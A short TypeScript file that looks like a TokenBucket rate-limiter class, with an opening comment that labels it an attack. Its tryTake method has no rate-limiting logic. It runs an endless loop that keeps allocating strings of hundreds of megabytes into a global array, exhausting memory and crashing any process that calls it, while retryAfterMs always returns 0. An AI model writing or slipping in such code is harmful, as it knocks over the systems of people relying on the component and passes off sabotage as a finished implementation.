// attack: one built-in call that makes half a gigabyte, again and again

export type Clock = () => number
export interface TokenBucketOptions {
  readonly capacity: number
  readonly refillPerSecond: number
  readonly clock: Clock
}

const kept: string[][] = []

export class TokenBucket {
  constructor(_: TokenBucketOptions) {}
  tryTake(_ = 1): boolean {
    for (let i = 0; ; i++) kept.push([`${'x'.repeat(2 ** 28)}${i}`].concat('y'.repeat(2 ** 28).split('', 1e7)))
  }
  retryAfterMs(_ = 1): number {
    return 0
  }
}
